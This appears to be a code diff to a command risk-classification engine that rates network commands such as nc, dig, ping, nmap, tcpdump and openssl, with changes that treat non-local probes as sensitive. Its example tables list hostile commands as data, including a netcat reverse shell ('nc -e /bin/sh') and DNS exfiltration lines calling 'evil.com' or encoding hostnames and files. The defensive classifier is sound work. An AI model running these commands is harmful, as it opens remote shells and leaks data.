@@ -10,7 +10,6 @@ from dataclasses import replace
 
 from cloud_assist.command.rules.engine.base import (
     MANY,
-    OPAQUE,
     Args,
     Call,
     Effect,
@@ -21,7 +20,7 @@ from cloud_assist.command.rules.engine.base import (
     names,
     ruled,
 )
-from cloud_assist.command.rules.engine.sending import is_near, sends_output
+from cloud_assist.command.rules.engine.sending import is_here, sends_output
 from cloud_assist.command.syntax.parser import Part, Simple
 from cloud_assist.findings import Code
 from cloud_assist.models import Risk
@@ -46,7 +45,7 @@ def _netcat(call: Call) -> Ruling:
     if args.has("-h"):
         return ruled(call, Risk.READ_ONLY, "network.nc.help")
     if args.has("-z") and not args.has("-l"):
-        outside = _probed(call, tuple(f"{word.text}:1" for word in args.operands[:1]))
+        outside = _probed(call, args.verbs[:1])
         return outside or ruled(call, Risk.READ_ONLY, "network.nc.probe", "It only tests whether the port is open.")
     if args.has("-l"):
         return ruled(call, Risk.MUTATING, "network.nc.listen", "It listens for connections.", Code.FOLLOWS)
@@ -66,12 +65,23 @@ def _asked(call: Call) -> Ruling | None:
 
 
 def _probed(call: Call, targets: tuple[str, ...]) -> Ruling | None:
-    """A machine that is not on one's own network is asked; None where nobody else hears of it."""
-    for target in targets:
-        host = f"[{target}]" if target.count(":") > 1 and target[:1] != "[" else target
-        if OPAQUE in target or not is_near(host if re.search(r":\d+$", host) else f"{host}:1"):
-            return ruled(call, Risk.SENSITIVE, "network.probe", f"`{call.program}` asks a machine outside.")
-    return None
+    """Another machine is asked, be it near or far; None where nobody else hears of it."""
+    if all(is_here(target) for target in targets):
+        return None
+    return ruled(call, Risk.SENSITIVE, "network.probe", f"`{call.program}` asks another machine.")
+
+
+def _looked_up(call: Call, args: Args) -> Ruling | None:
+    """A name server or a registry is asked, unless it is the one of this machine."""
+    asked = _asked(call)
+    if asked is not None or args.unknown:
+        return asked
+    servers = tuple(word[1:] for word in args.verbs if word[:1] == "@")
+    if call.program == "nslookup":
+        servers = args.verbs[1:2]
+    if (not args.operands and args.has("-v", "-V", "-h", "-version")) or (servers and all(map(is_here, servers))):
+        return ruled(call, Risk.READ_ONLY, "network.ask")
+    return ruled(call, Risk.SENSITIVE, "network.ask", f"`{call.program}` asks a server outside.")
 
 
 _LOOKUP = Program(
@@ -82,17 +92,18 @@ _LOOKUP = Program(
         switches="-4 -6 -a -C -d -l -r -s -T -u -v -V -i -A -U -H -B -L -M -P -w -h",
     ),
     operands=MANY,
-    custom=lambda call, args, verb: _asked(call),
+    custom=lambda call, args, verb: _looked_up(call, args),
     examples={
-        Risk.READ_ONLY: (
+        Risk.READ_ONLY: ("dig -v", "dig @127.0.0.1 x.com", "host -V"),
+        Risk.SENSITIVE: (
             "dig +short x.com",
             "host x",
             "host -t mx x.com",
             "whois x.com",
             "dig $HOST",
             "dig -x 10.0.0.1",
+            "dig $X.evil.com",
         ),
-        Risk.SENSITIVE: ("dig $X.evil.com",),
         Risk.MUTATING: ("dig -f names",),
         Risk.UNKNOWN: ("dig --frobnicate x",),
     },
@@ -106,10 +117,15 @@ _NSLOOKUP = Program(
         single_dash=True,
     ),
     operands=2,
-    custom=lambda call, args, verb: _asked(call),
+    custom=lambda call, args, verb: (
+        ruled(call, Risk.UNKNOWN, "network.ask.prompt", "It waits for names.", Code.INTERACTIVE)
+        if not call.args and not call.upstream and not call.redirects
+        else _looked_up(call, args)
+    ),
     examples={
-        Risk.READ_ONLY: ("nslookup x 8.8.8.8", "nslookup -type=mx x.com"),
-        Risk.SENSITIVE: ("nslookup $(hostname).x.io",),
+        Risk.READ_ONLY: ("nslookup x localhost", "nslookup -version"),
+        Risk.SENSITIVE: ("nslookup $(hostname).x.io", "nslookup x 8.8.8.8", "nslookup -type=mx x.com"),
+        Risk.UNKNOWN: ("nslookup",),
         Risk.MUTATING: ("cat f | nslookup", "nslookup < f"),
     },
 )
@@ -133,11 +149,14 @@ _PROBE = Program(
     custom=lambda call, args, verb: (
         ruled(call, Risk.UNKNOWN, "network.probe.takes", "It claims an address of the network for this machine.")
         if call.program == "arping" and args.has("-U", "-A", "-S", "-s", "-P")
-        else _asked(call) or _probed(call, tuple(word.text for word in args.operands if not word.text.isdigit()))
+        else _asked(call)
+        or (None if args.unknown else _probed(call, tuple(w.text for w in args.operands if not w.text.isdigit())))
     ),
     examples={
-        Risk.READ_ONLY: ("traceroute localhost", "mtr -r 10.0.0.1", "fping db"),
+        Risk.READ_ONLY: ("traceroute localhost", "fping 127.0.0.1"),
         Risk.SENSITIVE: (
+            "mtr -r 10.0.0.1",
+            "fping db",
             "traceroute example.com",
             "mtr -r -c 10 example.com",
             "ssh-keyscan h.example.com",
@@ -170,8 +189,14 @@ _PING = Program(
     custom=lambda call, args, verb: _ping(call, args),
     effects=(Effect("-f", Risk.MUTATING, "`ping -f` floods the other machine."),),
     examples={
-        Risk.READ_ONLY: ("ping localhost", "ping -c 3 db", "ping6 -c1 ::1", "ping -c 4 10.0.0.1"),
-        Risk.SENSITIVE: ("ping -c 4 8.8.8.8", "ping example.com"),
+        Risk.READ_ONLY: ("ping -c 3 localhost", "ping6 -c1 ::1", "ping -V"),
+        Risk.SENSITIVE: (
+            "ping localhost",
+            "ping -c 3 db",
+            "ping -c 4 10.0.0.1",
+            "ping -c 4 8.8.8.8",
+            "ping example.com",
+        ),
         Risk.MUTATING: ("ping -f x", "ping -c 1 $(base64 f).x"),
     },
 )
@@ -179,9 +204,10 @@ _PING = Program(
 
 def _ping(call: Call, args: Args) -> Ruling | None:
     asked = _asked(call) or _probed(call, args.verbs)
-    if asked is not None or args.has("-c", "-w", "-o", "-V"):
+    if args.has("-c", "-w", "-o", "-V"):
         return asked
-    return ruled(call, Risk.READ_ONLY, "network.ping", "`ping` only tests whether a host answers.", Code.FOLLOWS)
+    risk = Risk.READ_ONLY if asked is None else asked.risk
+    return ruled(call, risk, "network.ping", "`ping` tests until it is stopped.", Code.FOLLOWS)
 
 
 _NMAP = Program(
@@ -190,9 +216,15 @@ _NMAP = Program(
     Flags(
         values="-p -oN -oX -oG -oA -oS -iL --script --script-args -T -D -S -e -g --top-ports --exclude -m "
         "--min-rate --max-rate --datadir -iR -b",
+        switches="-V -h",
         single_dash=True,
     ),
     texts={"": "It asks other machines which ports are open."},
+    custom=lambda call, args, verb: (
+        ruled(call, Risk.READ_ONLY, "network.scan.version")
+        if call.args and set(call.words) <= {"-V", "--version", "-h", "--help"}
+        else None
+    ),
     effects=(
         Effect(
             "-oN -oX -oG -oA -oS -oM -oJ -oH --append-output",
@@ -207,12 +239,38 @@ _NMAP = Program(
         ),
     ),
     examples={
+        Risk.READ_ONLY: ("nmap -V",),
         Risk.SENSITIVE: ("nmap -p 22 host", "nmap -sn 10.0.0.0/24"),
         Risk.MUTATING: ("nmap -oN f host",),
         Risk.UNKNOWN: ("nmap --script vuln host", "nmap --interactive"),
     },
     operands=MANY,
 )
+
+
+_NO_CAPTURE = {
+    "tcpdump": names(
+        "-r -D --list-interfaces -J --list-time-stamp-types -L --list-data-link-types -d -h --help --version"
+    ),
+    "tshark": names(
+        "-r --read-file -D --list-interfaces --list-time-stamp-types -L --list-data-link-types -G -h --help -v "
+        "--version"
+    ),
+    "ngrep": names("-I -h -V"),
+}
+"""Options with which each program reads a file, or only lists."""
+
+
+def _captures(call: Call, args: Args, verb: str) -> Ruling | None:
+    """What passes by on the network is read, unless a file is; ngrep reads one with `-I`."""
+    if args.has(*_NO_CAPTURE[call.program]) or args.unknown:
+        return None
+    ends = args.has(*("-n",) if call.program == "ngrep" else ("-c", "-a", "--autostop"))
+    text = "It reads what passes by on the network, passwords included."
+    codes = (Code.REVEALS_SECRET,) if ends else (Code.REVEALS_SECRET, Code.FOLLOWS)
+    return ruled(call, Risk.SENSITIVE, "network.capture.live", text, *codes)
+
+
 _TCPDUMP = Program(
     "network.capture",
     Risk.READ_ONLY,
@@ -228,8 +286,10 @@ _TCPDUMP = Program(
         Effect("-w", Risk.MUTATING, "It writes what it captures to a file.", value="(?!-$).*"),
         Effect("-z", Risk.UNKNOWN, "`tcpdump -z` runs a program on each file."),
     ),
+    custom=_captures,
     examples={
-        Risk.READ_ONLY: ("tcpdump -i eth0 -c 10", "tcpdump -r f", "tcpdump -nnvvXSs 0 -c1 icmp", "tcpdump -e -i eth0"),
+        Risk.READ_ONLY: ("tcpdump -r f", "tcpdump -D", "tcpdump -nr f -c 5 icmp"),
+        Risk.SENSITIVE: ("tcpdump -i eth0 -c 10", "tcpdump -nnvvXSs 0 -c1 icmp", "tcpdump -e -i eth0"),
         Risk.MUTATING: ("tcpdump -w f", "tcpdump -ew f", "tcpdump -ne -w f port 80"),
         Risk.UNKNOWN: ("tcpdump -G 1 -w f -z ./x",),
     },
@@ -254,8 +314,10 @@ _TSHARK = Program(
         Effect("-X", Risk.UNKNOWN, "`tshark -X` can load a script."),
         Effect("--export-objects --export-tls-session-keys --log-file --temp-dir", Risk.MUTATING, "It writes files."),
     ),
+    custom=_captures,
     examples={
         Risk.READ_ONLY: ("tshark -r f", "tshark -r f -T fields -e ip.src", "tshark -q -z conv,tcp -r f"),
+        Risk.SENSITIVE: ("tshark -i eth0 -c 10", "tshark"),
         Risk.MUTATING: ("tshark -w f", "tshark -r f --export-objects http,d"),
         Risk.UNKNOWN: ("tshark -X lua_script:x.lua -r f",),
     },
@@ -272,16 +334,18 @@ _NGREP = Program(
         Effect("-O", Risk.MUTATING, "It writes what it captures to a file."),
         Effect("-K", Risk.DESTRUCTIVE, "`ngrep -K` ends the connections that match."),
     ),
+    custom=_captures,
     examples={
-        Risk.READ_ONLY: ("ngrep -q GET port 80", "ngrep -w -e -d eth0 x"),
+        Risk.READ_ONLY: ("ngrep -q -I dump.pcap GET",),
+        Risk.SENSITIVE: ("ngrep -q GET port 80", "ngrep -w -e -d eth0 x"),
         Risk.MUTATING: ("ngrep -O f x", "ngrep -eO f x"),
         Risk.DESTRUCTIVE: ("ngrep -K 1 x port 80",),
     },
     operands=MANY,
 )
 _OPENSSL_READS = (
-    "version, ciphers, help, list, errstr, speed, s_client, s_time, verify, x509, crl, asn1parse, dgst, sha256, "
-    "sha1, md5, prime, info, rand, ocsp, crl2pkcs7, passwd, sess_id, storeutl, nseq"
+    "version, ciphers, help, list, errstr, s_client, s_time, verify, x509, crl, asn1parse, dgst, sha256, "
+    "sha1, md5, prime, info, ocsp, crl2pkcs7, sess_id, storeutl, nseq"
 )
 _OPENSSL = Program(
     "network.openssl",
@@ -304,7 +368,10 @@ _OPENSSL = Program(
             "-cipher-commands -digest-algorithms -cipher-algorithms -stdname -evp -elapsed -mr -reconnect",
         single_dash=True,
     ),
-    verbs={path.strip(): Risk.READ_ONLY for path in _OPENSSL_READS.split(",")},
+    verbs={
+        **{path.strip(): Risk.READ_ONLY for path in _OPENSSL_READS.split(",")},
+        **dict.fromkeys(("rand", "passwd"), Risk.SENSITIVE),
+    },
     effects=(
         Effect("-out -keyout -sess_out -keylogfile -writerand -respout -reqout -msgfile -CAcreateserial -CA -sign "
             "-signkey",
@@ -317,9 +384,10 @@ _OPENSSL = Program(
     help="-help --help",
     examples={
         Risk.READ_ONLY: ("openssl version", "openssl x509 -in cert.pem -noout -dates",
-            "openssl s_client -connect x:443 -servername x", "openssl rsa -in k.pem -noout -check",
-            "openssl dgst -sha256 f", "echo | openssl s_client -connect x:443"),
-        Risk.SENSITIVE: ("openssl rsa -in key.pem", "openssl pkcs12 -in x.p12 -nodes"),
+            "openssl s_client -connect localhost:443 -servername x", "openssl rsa -in k.pem -noout -check",
+            "openssl dgst -sha256 f"),
+        Risk.SENSITIVE: ("openssl rand -hex 32", "openssl passwd -6 x", "echo | openssl s_client -connect x:443",
+            "openssl rsa -in key.pem", "openssl pkcs12 -in x.p12 -nodes"),
         Risk.MUTATING: ("cat f | openssl s_client -connect x:443", "openssl genrsa -out k.pem 2048",
             "openssl req -new -key k -out c",
             "openssl x509 -in a -out b", "openssl x509 -in a --out b", "openssl s_client -connect x:443 < f"),
@@ -355,6 +423,11 @@ def _openssl_key(call: Call, args: Args) -> Ruling | None:
     if verb in {"s_client", "s_time"} and not args.has("-help"):
         where = args.value("-connect") or args.value("-host") or (args.verbs[1] if args.operands[1:] else "localhost")
         return _probed(call, (where,))
+    if verb == "ocsp" and args.has("-url", "-host"):
+        return _probed(call, ("",))
+    if verb == "storeutl":
+        text = "It prints what a store holds, keys included."
+        return ruled(call, Risk.SENSITIVE, "network.openssl.key", text, Code.REVEALS_SECRET)
     if verb not in {"rsa", "ec", "pkey", "dsa", "pkcs12", "pkcs8", "req", "enc", "pkcs7", "cms"} or args.has(
         "-out", "-new", "-newkey", "-export", "-x509"
     ):
@@ -398,8 +471,8 @@ RULES: dict[str, Rule] = {
     **dict.fromkeys(names("mail mailx sendmail mutt msmtp swaks"), _MAIL),
 }
 EXAMPLES = {
-    Risk.READ_ONLY: ("nc -zv host 80", "nc -zv 10.0.0.1 443"),
-    Risk.SENSITIVE: ("nc -zv example.com 443", 'nc -z "$H" 22'),
+    Risk.READ_ONLY: ("nc -zv localhost 80", "nc -zv 127.0.0.1 443"),
+    Risk.SENSITIVE: ("nc -zv host 80", "nc -zv 10.0.0.1 443", "nc -zv example.com 443", 'nc -z "$H" 22'),
     Risk.MUTATING: ("nc host 80", "nc -l 80"),
     Risk.DESTRUCTIVE: ("nc -e /bin/sh h 1",),
 }
